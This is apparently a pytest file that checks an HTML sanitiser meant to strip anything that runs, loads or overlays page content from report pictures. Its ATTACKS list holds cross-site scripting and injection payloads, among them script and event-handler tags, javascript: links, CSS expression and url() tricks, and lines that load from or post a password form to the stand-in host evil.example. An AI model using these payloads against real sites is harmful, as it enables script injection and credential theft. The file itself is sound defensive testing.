"""What a domain's pictures may bring into a page: text and colours, and nothing that runs, loads or covers."""

import re
from html.parser import HTMLParser

import pytest

from explaindistill.report.harmless_html import ATTRIBUTES, TAGS, VOID, harmless

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img alt="src=" title="src=x">',
    '<audio src="//evil.example/x.wav" autoplay onplay=alert(1)></audio>',
    '<audio autoplay loop onerror=alert(1) src="data:audio/wav;base64,UklGRg=="><source src=x></audio>',
    '<img src="data:audio/wav;base64,UklGRg=="><audio src="data:image/png;base64,iVBORw0KGgo=">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x"><link rel=stylesheet href=x><base href=//evil.example>',
    "<style>@import url(//evil.example)</style><p style='background:url(//evil.example)'>text</p>",
    "<p style='width:expression(alert(1))'>text</p>",
    "<p style='background:u\\72l(//evil.example)'>text</p>",
    "<p style='position:fixed;top:0;z-index:9'>over all</p>",
    "<p style='margin:-900px 0 0 0'>over what stands before</p>",
    "<p style='margin : 0 0 0 -5em'>aside</p>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</div></section></body></html>after",
    "<!-- <img src=x onerror=alert(1)> --><![CDATA[<script>alert(1)</script>]]>",
    "<b><i>open",
    "<td>cell</tr></table>",
    "<p title='\"><script>alert(1)</script>'>text</p>",
    "<script>never closed <b>bold</b>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Reader(HTMLParser):
    """Every tag and attribute that a browser would meet, and whether tags are closed in order."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.open, self.in_order = set(), [], [], True
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        self.in_order &= bool(self.open) and self.open.pop() == tag


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_leaves_its_place(attack):
    html = harmless(f"<div>{attack}")
    reader = Reader(html)
    assert reader.tags <= TAGS
    assert reader.in_order
    assert not reader.open
    for tag, name, value in reader.attributes:
        assert name in ATTRIBUTES | {"style", "src"} | ({"controls"} if tag == "audio" else set())
        data = r"data:audio/wav;base64," if tag == "audio" else r"data:image/(png|jpeg|gif);base64,"
        assert name != "src" or (tag in ("audio", "img") and re.match(data, value))
        assert name != "style" or not re.search(r"url|expression|@|\\|position|margin[^;]*-", value)


def test_what_formats_stays():
    picture = "data:image/png;base64,iVBORw0KGgo="
    html = (
        '<p dir="rtl" style="margin:1em 0;color:#111">a &lt; b <mark title="+0.9">good</mark></p>'
        f'<img src="{picture}" alt="picture">'
    )
    assert harmless(html) == html
    assert harmless("<table><tr><td colspan=2>x</td></tr></table>") == (
        '<table><tr><td colspan="2">x</td></tr></table>'
    )


def test_a_sound_has_controls_and_never_begins_by_itself():
    source = "data:audio/wav;base64,UklGRg=="
    player = f'<audio controls aria-label="what is heard" src="{source}"></audio>'
    assert harmless(player) == player
    assert harmless(f'<audio autoplay src="{source}">') == f'<audio controls src="{source}"></audio>'
    assert harmless("<audio controls></audio>") == ""


def test_text_is_never_lost_to_a_tag_that_is_left_out():
    assert harmless("so <blink>good</blink> &amp; <a href='x'>new</a>") == "so good &amp; new"
